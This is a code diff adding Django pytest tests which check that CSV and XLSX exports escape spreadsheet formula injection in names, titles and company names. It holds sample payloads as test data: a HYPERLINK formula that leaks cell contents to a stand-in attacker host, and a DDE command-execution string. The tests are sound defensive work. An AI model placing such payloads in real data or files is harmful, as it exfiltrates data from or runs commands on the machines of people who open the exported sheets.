@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -282,3 +284,49 @@ def test_an_admin_exports_everything(client: Client) -> None:
     )
     assert "Mila Jović" in text and "Ana Ilić" in text
     assert Company.objects.count() == 2
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"CV")'
+HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_COMPANY = "+381 Firma"
+
+
+def _hostile_data() -> None:
+    company = CompanyFactory.create(legal_name=HOSTILE_COMPANY)
+    placement = PlacementFactory.create(
+        company=company, title=HOSTILE_TITLE, municipality=municipality("pirot")
+    )
+    candidate = CandidateProfileFactory.create(
+        user=UserFactory.create(first_name=HOSTILE_NAME, last_name="-Ilić")
+    )
+    Match.objects.create(candidate=candidate, placement=placement, score=0.83)
+
+
+@pytest.mark.parametrize("what", ["matches", "placements"])
+def test_csv_exports_neutralise_formula_leading_names_and_titles(client: Client, what: str) -> None:
+    _hostile_data()
+    response = client.get(f"/coordinator/imports/export/{what}/", {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + HOSTILE_TITLE in cells and "'" + HOSTILE_COMPANY in cells
+    if what == "matches":
+        assert "'" + HOSTILE_NAME + " -Ilić" in cells
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@"]
+
+
+@pytest.mark.parametrize("what", ["matches", "placements"])
+def test_xlsx_exports_write_names_and_titles_as_text(client: Client, what: str) -> None:
+    _hostile_data()
+    response = client.get(f"/coordinator/imports/export/{what}/", {"format": "xlsx"})
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = b"".join(
+            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
+        )
+    assert b"<f>" not in xml and b"<f " not in xml
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    values = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
+    assert values[HOSTILE_TITLE].data_type == "s" and values[HOSTILE_TITLE].quotePrefix
+    assert values[HOSTILE_COMPANY].data_type == "s"
+    if what == "matches":
+        assert values[HOSTILE_NAME + " -Ilić"].data_type == "s"
